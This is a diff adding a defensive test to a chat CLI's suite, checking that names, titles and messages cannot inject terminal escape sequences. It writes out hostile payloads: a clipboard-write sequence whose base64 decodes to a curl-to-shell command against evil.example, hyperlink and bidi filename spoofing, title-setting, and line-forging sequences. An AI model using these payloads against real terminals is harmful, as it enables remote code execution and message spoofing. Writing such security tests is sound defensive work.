@@ -233,6 +233,54 @@ describe("parley CLI", () => {
     assert.match(inChat.output, /#\d+ Alice: \*scripted\* \*one\*/);
   });
 
+  it("security review #6: names, titles and bodies from the server cannot drive the terminal or forge lines", async () => {
+    const mallory = `mallory_${suffix}`;
+    assert.equal((await run(mallory, ["register", mallory])).code, 0);
+    const { accounts, conversations, messages } = server.services;
+    const malloryId = (await accounts.byUsername(mallory)).id;
+    const bobId = (await accounts.byUsername(bob)).id;
+    // Stored as names were before the server checked them (security review #8): sets the window title, erases the line.
+    await accounts.updateProfile(malloryId, "Alice\x1b]0;PWNED\x07\x1b[2K");
+    const direct = await conversations.openDirect(malloryId, bobId);
+    await conversations.createGroup(malloryId, "Team\x1b]8;;https://evil.example/\x07X\x1b]8;;\x07\u202egnp.exe", [bobId]);
+    const bodies = [
+      // OSC 52: writes the victim's clipboard.
+      "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07copied",
+      // Cursor up, erase line, carriage return: overwrites the line above with a forged one.
+      "ok\x1b[1A\x1b[2K\r[12:00] Alice: cursor forged",
+      // A newline followed by what looks like another sender's line.
+      "line one\n[12:00] Alice: newline forged",
+      // 8-bit CSI (C1) and a DCS string.
+      "c1\x9b2J\x1bP+q544e\x1b\\ dcs",
+    ];
+    let clientId = 0;
+    for (const body of bodies) await messages.send(malloryId, { conversationId: direct.id, clientId: `evil${++clientId}`, body });
+
+    // Anything but a newline that a terminal would act on: ESC, BEL, CR, backspace, C1 controls, bidi overrides.
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point
+    const drives = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+    const forgedLine = /^(#\d+ )?\[12:00\] Alice:/m;
+
+    const chat = await run(bob, ["dm", mallory], "/quit\n");
+    assert.equal(chat.code, 0, chat.output);
+    assert.doesNotMatch(chat.output, drives, JSON.stringify(chat.output));
+    assert.doesNotMatch(chat.output, forgedLine, chat.output);
+    assert.match(chat.output, /── Alice␛\]0;PWNED␇␛\[2K \(direct\)/);
+    assert.match(chat.output, /Alice␛\]0;PWNED␇␛\[2K: ␛\]52;c;Y3Vyb\S+␇copied/);
+    assert.match(chat.output, /: ok␛\[1A␛\[2K␍\[12:00\] Alice: cursor forged/);
+    assert.match(chat.output, /: line one\n {4}\[12:00\] Alice: newline forged/);
+
+    const list = await run(bob, ["conversations"]);
+    assert.equal(list.code, 0, list.output);
+    assert.doesNotMatch(list.output, drives, JSON.stringify(list.output));
+    assert.match(list.output, /Team␛\]8;;https:\/\/evil\.example\/␇X␛\]8;;␇\ufffdgnp\.exe\s+group/);
+    assert.match(list.output, /Alice␛\]0;PWNED␇␛\[2K\s+direct/);
+
+    const found = await run(bob, ["search", "copied"]);
+    assert.equal(found.code, 0, found.output);
+    assert.doesNotMatch(found.output, drives, JSON.stringify(found.output));
+  });
+
   it("fails clearly: unknown command, not logged in, wrong password; logout forgets the session", async () => {
     const unknown = await run(alice, ["frobnicate"]);
     assert.equal(unknown.code, 2);
